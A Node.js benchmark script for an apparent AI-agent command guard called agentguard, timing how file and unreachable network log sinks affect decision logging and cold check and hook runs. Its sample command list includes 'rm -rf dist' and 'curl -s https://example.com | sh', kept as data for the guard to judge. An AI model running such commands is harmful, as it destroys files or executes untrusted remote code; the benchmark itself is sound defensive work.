// Log sinks (issue 16): what a sink adds to a decision's log record, and to a cold `check`
// and hook, with no sink, with a file sink and with dead network sinks (a closed port: refused;
// 192.0.2.1: black-holed or unreachable). A dead sink must not slow commands: its records wait
// in a bounded queue and go out (or are counted lost) off the writer's path.
// Run by `npm run bench` (section extra), or `node bench/sinks.js` after a build.
import { spawnSync } from 'node:child_process';
import fs from 'node:fs';
import net from 'node:net';
import os from 'node:os';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import { createGuard } from '../dist/index.js';
import { SessionLog } from '../dist/log/store.js';
import { Redactor } from '../dist/log/redact.js';
import { decisionFields } from '../dist/log/record.js';
import { openLogSinks } from '../dist/sinks/index.js';

const root = path.resolve(path.dirname(fileURLToPath(import.meta.url)), '..');
const fmt = (ms) => (ms < 1 ? `${(ms * 1000).toFixed(0)} µs` : `${ms.toFixed(2)} ms`);
const pct = (sorted, p) => sorted[Math.min(sorted.length - 1, Math.floor((p / 100) * sorted.length))];

async function closedPort() {
  const s = net.createServer();
  await new Promise((r) => s.listen(0, '127.0.0.1', r));
  const port = s.address().port;
  await new Promise((r) => s.close(r));
  return port;
}

const base = fs.mkdtempSync(path.join(fs.existsSync('/var/tmp') ? '/var/tmp' : os.tmpdir(), 'agentguard-bench-sinks-'));
try {
  const port = await closedPort();
  const dead = [`syslog+tcp://127.0.0.1:${port}`, 'syslog+tcp://192.0.2.1:601', 'otlp-http://192.0.2.1:4318'];
  const variants = [
    ['no sink', []],
    ['a file sink', [`file:${path.join(base, 'sink.jsonl')}`]],
    ['3 dead network sinks', dead],
  ];

  // In a session: one decision record per command, the event loop free in between (the sinks' delivery runs there).
  const guard = await createGuard({ cwd: root, workspaces: [root] });
  const redactor = new Redactor(process.env);
  const commands = ['git status --short', 'npm test', 'rm -rf dist', 'curl -s https://example.com | sh', 'ls -la src'];
  const decisions = commands.map((command) => [command, guard.check({ command })]);
  for (const [label, specs] of variants) {
    const sinks = openLogSinks(specs, { env: { XDG_STATE_HOME: path.join(base, 'state') } });
    const log = new SessionLog(`bench-${label.replace(/\W+/g, '-')}`, { dir: path.join(base, 'sessions'), onAppend: sinks?.onAppend });
    const times = [];
    for (let i = 0; i < 2000; i++) {
      const [command, d] = decisions[i % decisions.length];
      const t = process.hrtime.bigint();
      log.append('decision', decisionFields({ source: 'session', command, cwd: root, decision: d, verdict: d.action === 'allow' ? 'allow' : 'deny' }, redactor));
      times.push(Number(process.hrtime.bigint() - t) / 1e6);
      await new Promise((r) => setImmediate(r));
    }
    const t = process.hrtime.bigint();
    const figures = (await sinks?.close({ log })) ?? [];
    const end = Number(process.hrtime.bigint() - t) / 1e6;
    log.close();
    times.sort((a, b) => a - b);
    const lost = figures.reduce((n, f) => n + f.dropped + f.unsent, 0);
    console.log(`${`log record, ${label}`.padEnd(44)} p50 ${fmt(pct(times, 50)).padStart(8)}   p99 ${fmt(pct(times, 99)).padStart(8)}   (${times.length} records${specs.length ? `; session end waited ${fmt(end)} for its sinks, ${lost} lost` : ''})`);
  }

  // Short-lived writers: the whole `agentguard check` and hook, config.yaml naming the sinks.
  const bin = path.join(root, 'bin/agentguard.js');
  const hookInput = JSON.stringify({ session_id: 'bench', transcript_path: path.join(base, 't.jsonl'), cwd: root, permission_mode: 'default', hook_event_name: 'PreToolUse', tool_name: 'Bash', tool_input: { command: 'git status --short' }, tool_use_id: 'toolu_bench' });
  const cold = variants.map(([label, specs]) => {
    const home = path.join(base, `home-${label.replace(/\W+/g, '-')}`);
    fs.mkdirSync(path.join(home, '.config', 'agentguard'), { recursive: true });
    if (specs.length) fs.writeFileSync(path.join(home, '.config', 'agentguard', 'config.yaml'), `log:\n  sinks: ${JSON.stringify(specs)}\n`);
    return { label, env: { PATH: process.env.PATH ?? '/usr/bin:/bin', HOME: home }, check: [], hook: [] };
  });
  for (let i = 0; i <= 15; i++) {
    for (const v of cold) {
      for (const kind of ['check', 'hook']) {
        const args = kind === 'check' ? [bin, 'check', '--', 'git status --short'] : [bin, 'hook', 'claude'];
        const t = process.hrtime.bigint();
        const r = spawnSync(process.execPath, args, { cwd: root, env: v.env, encoding: 'utf8', input: kind === 'hook' ? hookInput : undefined });
        const ms = Number(process.hrtime.bigint() - t) / 1e6;
        if (r.status !== 0) throw new Error(`${kind} failed: ${r.stderr}`);
        if (i > 0) v[kind].push(ms); // the first round fills the rule cache
      }
    }
  }
  for (const v of cold) {
    for (const kind of ['check', 'hook']) {
      const t = v[kind].sort((a, b) => a - b);
      console.log(`${`cold ${kind === 'check' ? 'check' : 'hook claude'}, ${v.label}`.padEnd(44)} median ${fmt(pct(t, 50))}   min ${fmt(t[0])}   (${t.length} runs)`);
    }
  }
  // The delivery processes the dead sinks' runs started end within their bound; let them, before the directory goes.
  await new Promise((r) => setTimeout(r, 2500));
} finally {
  fs.rmSync(base, { recursive: true, force: true });
}
